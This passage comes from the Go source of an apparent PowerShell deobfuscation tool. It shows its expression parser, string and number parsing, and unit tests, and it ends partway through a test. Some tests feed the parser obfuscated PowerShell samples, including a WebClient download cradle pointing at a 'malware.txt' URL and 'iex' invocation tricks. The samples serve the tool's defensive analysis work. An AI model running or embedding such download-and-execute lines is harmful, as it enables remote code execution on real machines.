		left = &psast.BinaryExpression{
			Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
			Operator: "-f",
			Left:     left,
			Right:    right,
		}
	}
	return left, nil
}

// parseRange parses the .. range operator level.
func (p *parser) parseRange() (psast.Node, error) {
	left, err := p.parseArray()
	if err != nil {
		return nil, err
	}
	for p.isOperator("..") {
		p.advance()
		p.skipNewlines()
		right, err := p.parseArray()
		if err != nil {
			return nil, err
		}
		left = &psast.BinaryExpression{
			Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
			Operator: "..",
			Left:     left,
			Right:    right,
		}
	}
	return left, nil
}

// parseArray parses the comma (array constructor) level.
func (p *parser) parseArray() (psast.Node, error) {
	// Unary comma builds a one-element array.
	if p.isOperator(",") {
		start := p.cur().Start
		p.advance()
		p.skipNewlines()
		elem, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &psast.ArrayLiteral{
			Ext:      psast.Extent{Start: start + p.offset, End: elem.Extent().End},
			Elements: []psast.Node{elem},
		}, nil
	}
	first, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	if !p.isOperator(",") {
		return first, nil
	}
	arr := &psast.ArrayLiteral{Elements: []psast.Node{first}}
	for p.isOperator(",") {
		p.advance()
		p.skipNewlines()
		elem, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		arr.Elements = append(arr.Elements, elem)
	}
	arr.Ext = psast.Extent{
		Start: first.Extent().Start,
		End:   arr.Elements[len(arr.Elements)-1].Extent().End,
	}
	return arr, nil
}

// parseUnary parses prefix unary operators and type casts.
func (p *parser) parseUnary() (psast.Node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	if t.Type == pstoken.Operator && unaryOps[strings.ToLower(t.Content)] {
		p.advance()
		p.skipNewlines()
		operand, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &psast.UnaryExpression{
			Ext:      psast.Extent{Start: t.Start + p.offset, End: operand.Extent().End},
			Operator: strings.ToLower(t.Content),
			Operand:  operand,
		}, nil
	}
	if t.Type == pstoken.TypeLiteral {
		next := p.peek(1)
		// [type]::Member is postfix (static access); [type] followed by
		// an operand is a cast; otherwise a bare type expression.
		if next.Type == pstoken.Operator && next.Content == "::" {
			return p.parsePostfix()
		}
		if startsOperand(next) {
			p.advance()
			operand, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &psast.ConvertExpression{
				Ext:      psast.Extent{Start: t.Start + p.offset, End: operand.Extent().End},
				TypeName: t.Content,
				Operand:  operand,
			}, nil
		}
		p.advance()
		return &psast.TypeExpression{Ext: p.tokExt(t), TypeName: t.Content}, nil
	}
	return p.parsePostfix()
}

// startsOperand reports whether t can begin an expression operand.
func startsOperand(t pstoken.Token) bool {
	switch t.Type {
	case pstoken.Number, pstoken.String, pstoken.Variable, pstoken.TypeLiteral:
		return true
	case pstoken.GroupStart:
		return true
	case pstoken.Operator:
		return unaryOps[strings.ToLower(t.Content)]
	}
	return false
}

// parsePostfix parses a primary expression followed by member access,
// static access, indexing, method invocation and ++/--.
func (p *parser) parsePostfix() (psast.Node, error) {
	base, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	return p.parsePostfixFrom(base)
}

func (p *parser) parsePostfixFrom(base psast.Node) (psast.Node, error) {
	for {
		t := p.cur()
		switch {
		case t.Type == pstoken.Operator && (t.Content == "." || t.Content == "::"):
			static := t.Content == "::"
			p.advance()
			member, err := p.parseMemberName()
			if err != nil {
				return nil, err
			}
			// Attached ( begins a method invocation.
			if p.isGroupStart("(") && p.cur().Start == memberEnd(member)-p.offset {
				p.advance()
				args, err := p.parseInvocationArgs()
				if err != nil {
					return nil, err
				}
				end, err := p.expectGroupEnd(")")
				if err != nil {
					return nil, err
				}
				base = &psast.InvokeMemberExpression{
					Ext:    psast.Extent{Start: base.Extent().Start, End: end.End() + p.offset},
					Target: base,
					Member: member,
					Static: static,
					Args:   args,
				}
				continue
			}
			base = &psast.MemberExpression{
				Ext:    psast.Extent{Start: base.Extent().Start, End: member.Extent().End},
				Target: base,
				Member: member,
				Static: static,
			}
		case t.Type == pstoken.GroupStart && t.Content == "[":
			p.advance()
			p.skipNewlines()
			idx, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd("]")
			if err != nil {
				return nil, err
			}
			base = &psast.IndexExpression{
				Ext:    psast.Extent{Start: base.Extent().Start, End: end.End() + p.offset},
				Target: base,
				Index:  idx,
			}
		case t.Type == pstoken.GroupStart && t.Content == "(" && base.Kind() == psast.KindMemberExpression && t.Start+p.offset == base.Extent().End:
			// Method call written with whitespace elsewhere collapsed:
			// target.member(...) parsed as member then invocation.
			me := base.(*psast.MemberExpression)
			p.advance()
			args, err := p.parseInvocationArgs()
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd(")")
			if err != nil {
				return nil, err
			}
			base = &psast.InvokeMemberExpression{
				Ext:    psast.Extent{Start: me.Ext.Start, End: end.End() + p.offset},
				Target: me.Target,
				Member: me.Member,
				Static: me.Static,
				Args:   args,
			}
		case t.Type == pstoken.Operator && (t.Content == "++" || t.Content == "--"):
			p.advance()
			base = &psast.UnaryExpression{
				Ext:      psast.Extent{Start: base.Extent().Start, End: t.End() + p.offset},
				Operator: t.Content,
				Operand:  base,
				Postfix:  true,
			}
		default:
			return base, nil
		}
	}
}

func memberEnd(m psast.Node) int { return m.Extent().End }

// parseMemberName parses the name after . or :: — a bare word, string,
// variable, or parenthesized expression.
func (p *parser) parseMemberName() (psast.Node, error) {
	t := p.cur()
	switch t.Type {
	case pstoken.Member, pstoken.CommandArgument, pstoken.Command, pstoken.Keyword, pstoken.Number:
		p.advance()
		return &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}, nil
	case pstoken.String:
		p.advance()
		return p.stringNode(t), nil
	case pstoken.Variable:
		p.advance()
		return &psast.VariableExpression{Ext: p.tokExt(t), Name: t.Content}, nil
	case pstoken.GroupStart:
		if t.Content == "(" || t.Content == "$(" {
			return p.parsePrimary()
		}
	}
	return nil, p.errorf("expected member name, found %q", t.Text)
}

// parseInvocationArgs parses a comma-separated method argument list.
func (p *parser) parseInvocationArgs() ([]psast.Node, error) {
	var args []psast.Node
	p.skipNewlines()
	if p.isGroupEnd(")") {
		return args, nil
	}
	for {
		p.skipNewlines()
		arg, err := p.parseExpressionNoComma()
		if err != nil {
			return nil, err
		}
		args = append(args, arg)
		p.skipNewlines()
		if p.isOperator(",") {
			p.advance()
			continue
		}
		return args, nil
	}
}

// parseExpressionNoComma parses an expression treating , as an argument
// separator rather than an array constructor.
func (p *parser) parseExpressionNoComma() (psast.Node, error) {
	return p.parseBinary(logicalOps, func() (psast.Node, error) {
		return p.parseBinary(bitwiseOps, func() (psast.Node, error) {
			return p.parseBinary(comparisonOps, func() (psast.Node, error) {
				return p.parseBinary(additiveOps, func() (psast.Node, error) {
					return p.parseBinary(multOps, func() (psast.Node, error) {
						left, err := p.parseRangeNoComma()
						if err != nil {
							return nil, err
						}
						for p.isOperator("-f") {
							p.advance()
							p.skipNewlines()
							right, err := p.parseRangeNoComma()
							if err != nil {
								return nil, err
							}
							left = &psast.BinaryExpression{
								Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
								Operator: "-f",
								Left:     left,
								Right:    right,
							}
						}
						return left, nil
					})
				})
			})
		})
	})
}

func (p *parser) parseRangeNoComma() (psast.Node, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for p.isOperator("..") {
		p.advance()
		p.skipNewlines()
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = &psast.BinaryExpression{
			Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
			Operator: "..",
			Left:     left,
			Right:    right,
		}
	}
	return left, nil
}

// parsePrimary parses a primary expression.
func (p *parser) parsePrimary() (psast.Node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	switch t.Type {
	case pstoken.Number:
		p.advance()
		v, err := ParseNumber(t.Content)
		if err != nil {
			return &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}, nil
		}
		return &psast.ConstantExpression{Ext: p.tokExt(t), Value: v, Text: t.Content}, nil
	case pstoken.String:
		p.advance()
		return p.stringNode(t), nil
	case pstoken.Variable:
		p.advance()
		return &psast.VariableExpression{Ext: p.tokExt(t), Name: t.Content}, nil
	case pstoken.TypeLiteral:
		p.advance()
		return &psast.TypeExpression{Ext: p.tokExt(t), TypeName: t.Content}, nil
	case pstoken.CommandArgument, pstoken.Member:
		// Bare word in expression position (tolerated).
		p.advance()
		return &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}, nil
	case pstoken.GroupStart:
		switch t.Content {
		case "(":
			start := t.Start
			p.advance()
			p.skipSeparators()
			inner, err := p.parsePipelineStatement()
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd(")")
			if err != nil {
				return nil, err
			}
			return &psast.ParenExpression{Ext: p.ext(start, end.End()), Pipeline: inner}, nil
		case "$(":
			start := t.Start
			p.advance()
			stmts, err := p.parseStatementList()
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd(")")
			if err != nil {
				return nil, err
			}
			return &psast.SubExpression{Ext: p.ext(start, end.End()), Statements: stmts}, nil
		case "@(":
			start := t.Start
			p.advance()
			stmts, err := p.parseStatementList()
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd(")")
			if err != nil {
				return nil, err
			}
			return &psast.ArrayExpression{Ext: p.ext(start, end.End()), Statements: stmts}, nil
		case "@{":
			return p.parseHashtable()
		case "{":
			start := t.Start
			p.advance()
			inner, err := p.parseScriptBody(start+1, 0)
			if err != nil {
				return nil, err
			}
			end, err := p.expectGroupEnd("}")
			if err != nil {
				return nil, err
			}
			inner.Ext = p.ext(start, end.End())
			if inner.Body != nil {
				inner.Body.Ext = p.ext(start+1, end.Start)
			}
			return &psast.ScriptBlockExpression{
				Ext:    p.ext(start, end.End()),
				Body:   inner,
				Source: p.src[start+1 : end.Start],
			}, nil
		}
		return nil, p.errorf("unexpected group %q", t.Text)
	}
	return nil, p.errorf("unexpected token %q in expression", t.Text)
}

// parseHashtable parses @{ key = value ; ... }.
func (p *parser) parseHashtable() (psast.Node, error) {
	start := p.cur().Start
	p.advance() // @{
	node := &psast.Hashtable{}
	for {
		p.skipSeparators()
		if p.isGroupEnd("}") {
			break
		}
		var key psast.Node
		t := p.cur()
		switch t.Type {
		case pstoken.Member, pstoken.Command, pstoken.CommandArgument, pstoken.Keyword:
			p.advance()
			key = &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}
		case pstoken.String:
			p.advance()
			key = p.stringNode(t)
		case pstoken.Number:
			p.advance()
			v, err := ParseNumber(t.Content)
			if err != nil {
				v = t.Content
			}
			key = &psast.ConstantExpression{Ext: p.tokExt(t), Value: v, Text: t.Content}
		case pstoken.Variable:
			p.advance()
			key = &psast.VariableExpression{Ext: p.tokExt(t), Name: t.Content}
		default:
			return nil, p.errorf("unexpected hashtable key %q", t.Text)
		}
		p.skipNewlines()
		if !p.isOperator("=") {
			return nil, p.errorf("expected = in hashtable, found %q", p.cur().Text)
		}
		p.advance()
		p.skipNewlines()
		value, err := p.parsePipelineStatement()
		if err != nil {
			return nil, err
		}
		node.Entries = append(node.Entries, psast.HashEntry{Key: key, Value: value})
	}
	end, err := p.expectGroupEnd("}")
	if err != nil {
		return nil, err
	}
	node.Ext = p.ext(start, end.End())
	return node, nil
}

// ParseNumber converts a PowerShell numeric literal to int64 or float64,
// handling hex, exponents, the d/l type suffixes and kb/mb/gb/tb/pb
// multipliers.
func ParseNumber(s string) (any, error) {
	text := strings.ToLower(strings.TrimSpace(s))
	if text == "" {
		return nil, strconv.ErrSyntax
	}
	neg := false
	switch text[0] {
	case '-':
		neg = true
		text = text[1:]
	case '+':
		text = text[1:]
	}
	if text == "" || text[0] == '-' || text[0] == '+' {
		return nil, strconv.ErrSyntax
	}
	mult := int64(1)
	for suffix, m := range map[string]int64{
		"kb": 1 << 10, "mb": 1 << 20, "gb": 1 << 30, "tb": 1 << 40, "pb": 1 << 50,
	} {
		if strings.HasSuffix(text, suffix) {
			text = strings.TrimSuffix(text, suffix)
			mult = m
			break
		}
	}
	if strings.HasPrefix(text, "0x") {
		// Hex literals take only the long suffix; "d" is a hex digit
		// (0x6d is 109, not decimal 0x6), so suffix stripping must not
		// eat it.
		text = strings.TrimSuffix(text, "l")
		v, err := strconv.ParseUint(text[2:], 16, 64)
		if err != nil {
			return nil, err
		}
		n := int64(v) * mult
		if neg {
			n = -n
		}
		return n, nil
	}
	isDecimal := false
	if strings.HasSuffix(text, "d") {
		isDecimal = true
		text = strings.TrimSuffix(text, "d")
	}
	text = strings.TrimSuffix(text, "l")
	if !isDecimal && !strings.ContainsAny(text, ".e") {
		v, err := strconv.ParseInt(text, 10, 64)
		if err == nil {
			n := v * mult
			if neg {
				n = -n
			}
			return n, nil
		}
	}
	f, err := strconv.ParseFloat(text, 64)
	if err != nil {
		return nil, err
	}
	f *= float64(mult)
	if neg {
		f = -f
	}
	return f, nil
}
