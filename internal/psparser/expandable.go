package psparser

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// parseExpandableString splits a double-quoted (or double here-string)
// token into literal fragments, variable references and embedded
// subexpressions, each with absolute extents.
func (p *parser) parseExpandableString(t pstoken.Token) psast.Node {
	var body string
	var bodyStart int
	if t.Kind == pstoken.DoubleHereString {
		nl := strings.IndexByte(t.Text, '\n')
		body = t.Content
		bodyStart = t.Start + nl + 1
	} else {
		body = t.Text[1 : len(t.Text)-1]
		bodyStart = t.Start + 1
	}
	node := &psast.ExpandableString{Ext: p.tokExt(t), Raw: body}
	node.Parts = p.scanExpandableParts(body, bodyStart, t.Kind == pstoken.DoubleHereString)
	return node
}

func (p *parser) scanExpandableParts(body string, bodyStart int, hereString bool) []psast.Node {
	var parts []psast.Node
	var lit strings.Builder
	litStart := 0
	flush := func(end int) {
		if lit.Len() == 0 {
			return
		}
		parts = append(parts, &psast.StringConstant{
			Ext:   p.ext(bodyStart+litStart, bodyStart+end),
			Value: lit.String(),
		})
		lit.Reset()
	}
	i := 0
	for i < len(body) {
		c := body[i]
		switch c {
		case '`':
			if hereString {
				// Backticks are literal inside here-strings except `$? No:
				// here-strings do not process backtick escapes at all, but
				// they do expand variables.
				lit.WriteByte(c)
				i++
				continue
			}
			if i+1 < len(body) {
				r := rune(body[i+1])
				if esc, ok := escapeValue(r); ok {
					lit.WriteRune(esc)
				} else {
					lit.WriteByte(body[i+1])
				}
				i += 2
				continue
			}
			i++
		case '"':
			// Only reachable for doubled quotes "" kept in raw text.
			lit.WriteByte('"')
			i++
			if i < len(body) && body[i] == '"' {
				i++
			}
		case '$':
			if i+1 < len(body) && body[i+1] == '(' {
				end, ok := pstoken.FindMatchingParen(body, i+1)
				if !ok {
					lit.WriteByte(c)
					i++
					continue
				}
				flush(i)
				inner := body[i+2 : end]
				sub := &psast.SubExpression{Ext: p.ext(bodyStart+i, bodyStart+end+1)}
				if sb, err := parseAt(inner, p.offset+bodyStart+i+2, p.depth); err == nil && sb.Body != nil {
					sub.Statements = sb.Body.Statements
				}
				parts = append(parts, sub)
				i = end + 1
				litStart = i
				continue
			}
			if i+1 < len(body) && body[i+1] == '{' {
				close := strings.IndexByte(body[i+2:], '}')
				if close < 0 {
					lit.WriteByte(c)
					i++
					continue
				}
				flush(i)
				name := body[i+2 : i+2+close]
				parts = append(parts, &psast.VariableExpression{
					Ext:  p.ext(bodyStart+i, bodyStart+i+2+close+1),
					Name: name,
				})
				i += 2 + close + 1
				litStart = i
				continue
			}
			if j := scanVariableName(body, i+1); j > i+1 {
				flush(i)
				parts = append(parts, &psast.VariableExpression{
					Ext:  p.ext(bodyStart+i, bodyStart+j),
					Name: body[i+1 : j],
				})
				i = j
				litStart = i
				continue
			}
			lit.WriteByte(c)
			i++
		default:
			lit.WriteByte(c)
			i++
		}
	}
	flush(len(body))
	return parts
}

// scanVariableName returns the end index of an unbraced variable name
// starting at i (after the $), or i if none.
func scanVariableName(s string, i int) int {
	if i < len(s) {
		switch s[i] {
		case '$', '?', '^', '_':
			// $_ may continue as $_.x only for the special var itself.
			if s[i] == '_' {
				j := i
				for j < len(s) && isIdentByte(s[j]) {
					j++
				}
				return j
			}
			return i + 1
		}
	}
	j := i
	for j < len(s) && (isIdentByte(s[j]) || s[j] == ':') {
		j++
	}
	// A trailing colon is not part of the name unless it is a drive
	// reference like env:USERNAME.
	for j > i && s[j-1] == ':' {
		j--
	}
	// Re-extend across scope/drive prefixes such as env:NAME.
	if j < len(s) && s[j] == ':' && j+1 < len(s) && isIdentByte(s[j+1]) {
		k := j + 1
		for k < len(s) && isIdentByte(s[k]) {
			k++
		}
		return k
	}
	return j
}

func isIdentByte(b byte) bool {
	return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '_'
}

// escapeValue resolves a backtick escape character.
func escapeValue(r rune) (rune, bool) {
	switch r {
	case '0':
		return 0, true
	case 'a':
		return 7, true
	case 'b':
		return 8, true
	case 'e':
		return 27, true
	case 'f':
		return 12, true
	case 'n':
		return '\n', true
	case 'r':
		return '\r', true
	case 't':
		return '\t', true
	case 'v':
		return 11, true
	}
	return 0, false
}
