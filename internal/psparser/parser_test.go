package psparser

import (
	"strings"
	"testing"
	"testing/quick"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
)

// firstStatement parses src and returns its first statement.
func firstStatement(t *testing.T, src string) psast.Node {
	t.Helper()
	root, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	if root.Body == nil || len(root.Body.Statements) == 0 {
		t.Fatalf("Parse(%q): no statements", src)
	}
	return root.Body.Statements[0]
}

// firstExpr unwraps Pipeline -> CommandExpression -> expression.
func firstExpr(t *testing.T, src string) psast.Node {
	t.Helper()
	pipe, ok := firstStatement(t, src).(*psast.Pipeline)
	if !ok {
		t.Fatalf("Parse(%q): first statement is %T", src, firstStatement(t, src))
	}
	ce, ok := pipe.Elements[0].(*psast.CommandExpression)
	if !ok {
		t.Fatalf("Parse(%q): first element is %T", src, pipe.Elements[0])
	}
	return ce.Expression
}

func TestParsePrecedence(t *testing.T) {
	tests := []struct {
		src string
		// want is a structural signature: operator of the root binary
		// expression.
		rootOp string
	}{
		{"1 + 2 * 3", "+"},
		{"'a' + 'b' -eq 'ab'", "-eq"},
		{"1,2 + 3", "+"},
		{"$a -band 2 -eq 2", "-band"},
		{"1..5 -join ','", "-join"},
		{"'{0}' -f 'a' + 'x'", "+"},
		{"$x -and $y -or $z", "-or"},
	}
	for _, tt := range tests {
		expr := firstExpr(t, tt.src)
		be, ok := expr.(*psast.BinaryExpression)
		if !ok {
			t.Errorf("Parse(%q): root is %T, want binary", tt.src, expr)
			continue
		}
		if be.Operator != tt.rootOp {
			t.Errorf("Parse(%q): root operator %q, want %q", tt.src, be.Operator, tt.rootOp)
		}
	}
}

func TestParseCommaBindsTighterThanFormat(t *testing.T) {
	expr := firstExpr(t, `"{1}{0}" -f 'b','a'`)
	be := expr.(*psast.BinaryExpression)
	if be.Operator != "-f" {
		t.Fatalf("root operator %q", be.Operator)
	}
	if _, ok := be.Right.(*psast.ArrayLiteral); !ok {
		t.Errorf("format RHS is %T, want ArrayLiteral", be.Right)
	}
}

func TestParseCastChain(t *testing.T) {
	expr := firstExpr(t, "[string][char]39")
	outer, ok := expr.(*psast.ConvertExpression)
	if !ok || !strings.EqualFold(outer.TypeName, "string") {
		t.Fatalf("outer cast = %#v", expr)
	}
	inner, ok := outer.Operand.(*psast.ConvertExpression)
	if !ok || !strings.EqualFold(inner.TypeName, "char") {
		t.Fatalf("inner cast = %#v", outer.Operand)
	}
}

func TestParseStaticMemberVsCast(t *testing.T) {
	expr := firstExpr(t, "[convert]::FromBase64String('aa')")
	ime, ok := expr.(*psast.InvokeMemberExpression)
	if !ok || !ime.Static {
		t.Fatalf("expr = %#v", expr)
	}
	if _, ok := ime.Target.(*psast.TypeExpression); !ok {
		t.Errorf("target = %T", ime.Target)
	}
}

func TestParseIndexChain(t *testing.T) {
	expr := firstExpr(t, "$env:comspec[4,24,25]")
	ix, ok := expr.(*psast.IndexExpression)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	if _, ok := ix.Index.(*psast.ArrayLiteral); !ok {
		t.Errorf("index = %T, want array", ix.Index)
	}
}

func TestParseAssignmentForms(t *testing.T) {
	tests := []struct {
		src string
		op  string
	}{
		{"$a = 1", "="},
		{"$a += 'x'", "+="},
		{"$a.prop = 1", "="},
		{"$a[0] = 1", "="},
		{"[int]$a = '5'", "="},
		{"$a, $b = 1, 2", "="},
	}
	for _, tt := range tests {
		st := firstStatement(t, tt.src)
		asn, ok := st.(*psast.Assignment)
		if !ok {
			t.Errorf("Parse(%q): %T, want Assignment", tt.src, st)
			continue
		}
		if asn.Operator != tt.op {
			t.Errorf("Parse(%q): op %q, want %q", tt.src, asn.Operator, tt.op)
		}
	}
}

func TestParseControlFlow(t *testing.T) {
	tests := []struct {
		src  string
		kind psast.Kind
	}{
		{"if (1) { 2 } elseif (3) { 4 } else { 5 }", psast.KindIf},
		{"while ($x) { $x-- }", psast.KindWhile},
		{"do { 1 } until ($x)", psast.KindDoLoop},
		{"for ($i=0; $i -lt 3; $i++) { $i }", psast.KindFor},
		{"foreach ($i in 1..3) { $i }", psast.KindForEach},
		{"switch (2) { 1 {'a'} 2 {'b'} default {'c'} }", psast.KindSwitch},
		{"function f { 1 }", psast.KindFunctionDefinition},
		{"filter f { $_ }", psast.KindFunctionDefinition},
		{"try { 1 } catch { 2 } finally { 3 }", psast.KindTry},
		{"return 5", psast.KindFlowStatement},
		{"throw 'err'", psast.KindFlowStatement},
		{"break", psast.KindFlowStatement},
	}
	for _, tt := range tests {
		st := firstStatement(t, tt.src)
		if st.Kind() != tt.kind {
			t.Errorf("Parse(%q): kind %v, want %v", tt.src, st.Kind(), tt.kind)
		}
	}
}

func TestParseIfStructure(t *testing.T) {
	st := firstStatement(t, "if ($a) { 1 } elseif ($b) { 2 } else { 3 }").(*psast.If)
	if len(st.Clauses) != 2 {
		t.Errorf("clauses = %d, want 2", len(st.Clauses))
	}
	if st.Else == nil {
		t.Error("missing else")
	}
}

func TestParseFunctionParams(t *testing.T) {
	st := firstStatement(t, "function add($x, $y = 2) { $x + $y }").(*psast.FunctionDefinition)
	if st.Name != "add" {
		t.Errorf("name = %q", st.Name)
	}
	if len(st.Params) != 2 {
		t.Fatalf("params = %d", len(st.Params))
	}
	if st.Params[1].Default == nil {
		t.Error("param default missing")
	}
}

func TestParseParamBlock(t *testing.T) {
	root, err := Parse("param($a, [int]$b = 3)\n$a + $b")
	if err != nil {
		t.Fatal(err)
	}
	if root.Params == nil || len(root.Params.Parameters) != 2 {
		t.Fatalf("param block = %#v", root.Params)
	}
}

func TestParseHashtable(t *testing.T) {
	expr := firstExpr(t, "@{name = 'x'; 'key two' = 2\nn3 = $v}")
	h, ok := expr.(*psast.Hashtable)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	if len(h.Entries) != 3 {
		t.Errorf("entries = %d, want 3", len(h.Entries))
	}
}

func TestParseExpandableStringParts(t *testing.T) {
	expr := firstExpr(t, `"pre $name mid $(1+2) post"`)
	es, ok := expr.(*psast.ExpandableString)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	kinds := make([]psast.Kind, 0, len(es.Parts))
	for _, p := range es.Parts {
		kinds = append(kinds, p.Kind())
	}
	want := []psast.Kind{
		psast.KindStringConstant, psast.KindVariableExpression,
		psast.KindStringConstant, psast.KindSubExpression,
		psast.KindStringConstant,
	}
	if len(kinds) != len(want) {
		t.Fatalf("parts = %v", kinds)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("part %d = %v, want %v", i, kinds[i], want[i])
		}
	}
}

func TestParseScriptBlockSource(t *testing.T) {
	expr := firstExpr(t, "{ $_ * 2 }")
	sb, ok := expr.(*psast.ScriptBlockExpression)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	if sb.Source != " $_ * 2 " {
		t.Errorf("source = %q", sb.Source)
	}
}

func TestParseInvocationOperators(t *testing.T) {
	pipe := firstStatement(t, ". ('iex') 'arg'").(*psast.Pipeline)
	cmd := pipe.Elements[0].(*psast.Command)
	if cmd.InvocationOperator != "." {
		t.Errorf("invocation operator = %q", cmd.InvocationOperator)
	}
	if len(cmd.Args) != 1 {
		t.Errorf("args = %d", len(cmd.Args))
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"if (1) 2",
		"foreach ($x of $y) { }",
		"function { }",
		"@{ key }",
		"$a = ",
		"1 +",
		"do { 1 }",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q): expected error", src)
		}
	}
}

// TestParseExtentsNested verifies the well-nestedness invariant the
// deobfuscator's splicing relies on: every child extent lies within its
// parent's extent, and siblings do not overlap.
func TestParseExtentsNested(t *testing.T) {
	srcs := []string{
		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
		`IEX (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
		"foreach ($i in 1..10) { $s += $i }",
		"function f($a) { try { $a } catch { 'e' } }",
		"\"v: $(1+2) $env:USERNAME\"",
		"@{a=1;b=@(1,2,3)}",
	}
	for _, src := range srcs {
		root, err := Parse(src)
		if err != nil {
			t.Fatalf("Parse(%q): %v", src, err)
		}
		psast.Walk(root, func(n psast.Node) bool {
			pe := n.Extent()
			if pe.Start < 0 || pe.End > len(src) || pe.Start > pe.End {
				t.Errorf("%q: node %v has bad extent %v", src, n.Kind(), pe)
			}
			var prevEnd = -1
			for _, c := range n.Children() {
				ce := c.Extent()
				if _, isExpandable := n.(*psast.ExpandableString); isExpandable {
					continue
				}
				if !pe.Contains(ce) {
					t.Errorf("%q: child %v %v outside parent %v %v", src, c.Kind(), ce, n.Kind(), pe)
				}
				if ce.Start < prevEnd {
					t.Errorf("%q: child %v %v overlaps sibling (prev end %d)", src, c.Kind(), ce, prevEnd)
				}
				prevEnd = ce.End
			}
			return true
		}, nil)
	}
}

// TestParseNeverPanics fuzzes the parser.
func TestParseNeverPanics(t *testing.T) {
	f := func(src string) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("panic on %q: %v", src, r)
			}
		}()
		_, _ = Parse(src)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestParseNumber(t *testing.T) {
	tests := []struct {
		in   string
		want any
	}{
		{"42", int64(42)},
		{"-7", int64(-7)},
		{"0x4B", int64(75)},
		{"0xff", int64(255)},
		{"3.5", 3.5},
		{"1e3", 1000.0},
		{"2kb", int64(2048)},
		{"1mb", int64(1 << 20)},
		{"10gb", int64(10 << 30)},
		{"5d", 5.0},
		{"7l", int64(7)},
		{"-0x10", int64(-16)},
	}
	for _, tt := range tests {
		got, err := ParseNumber(tt.in)
		if err != nil {
			t.Errorf("ParseNumber(%q): %v", tt.in, err)
			continue
		}
		if got != tt.want {
			t.Errorf("ParseNumber(%q) = %v (%T), want %v (%T)", tt.in, got, got, tt.want, tt.want)
		}
	}
	for _, bad := range []string{"", "x", "0x", "--1", "1.2.3"} {
		if _, err := ParseNumber(bad); err == nil {
			t.Errorf("ParseNumber(%q): expected error", bad)
		}
	}
}

func TestParseMultiStatement(t *testing.T) {
	root, err := Parse("$a=1\n$b=2;$c=3\n\nwrite-host $a $b $c")
	if err != nil {
		t.Fatal(err)
	}
	if n := len(root.Body.Statements); n != 4 {
		t.Errorf("statements = %d, want 4", n)
	}
}

func TestParsePipelineBackground(t *testing.T) {
	pipe := firstStatement(t, "'x' |& ('iex')").(*psast.Pipeline)
	if len(pipe.Elements) != 2 {
		t.Fatalf("elements = %d: %s", len(pipe.Elements), psast.Dump(pipe, "'x' |& ('iex')"))
	}
	cmd, ok := pipe.Elements[1].(*psast.Command)
	if !ok || cmd.InvocationOperator != "&" {
		t.Errorf("second element = %#v", pipe.Elements[1])
	}
}
