package psparser

import (
	"errors"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// TestDeepNestingParses is the regression test for the stack-overflow
// hazard: 10k-deep nested parens must parse without crashing the
// process (Go stack exhaustion is fatal, not a recoverable panic).
func TestDeepNestingParses(t *testing.T) {
	const depth = 10_000
	cases := map[string]string{
		"parens":         strings.Repeat("(", depth) + "1" + strings.Repeat(")", depth),
		"subexpressions": strings.Repeat("$(", depth) + "1" + strings.Repeat(")", depth),
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			sb, err := Parse(src)
			if err != nil {
				t.Fatalf("Parse(%s depth %d): %v", name, depth, err)
			}
			if sb == nil || sb.Body == nil || len(sb.Body.Statements) == 0 {
				t.Fatalf("Parse(%s depth %d): empty result", name, depth)
			}
		})
	}
}

// TestParseDepthLimit verifies pathological nesting is rejected with the
// typed taxonomy error instead of exhausting the stack.
func TestParseDepthLimit(t *testing.T) {
	const depth = 60_000 // beyond maxParseDepth/2 increments per level
	src := strings.Repeat("(", depth) + "1" + strings.Repeat(")", depth)
	_, err := Parse(src)
	if err == nil {
		t.Fatal("Parse accepted nesting beyond maxParseDepth")
	}
	if !errors.Is(err, limits.ErrParseDepth) {
		t.Fatalf("error %v (%T) does not unwrap to limits.ErrParseDepth", err, err)
	}
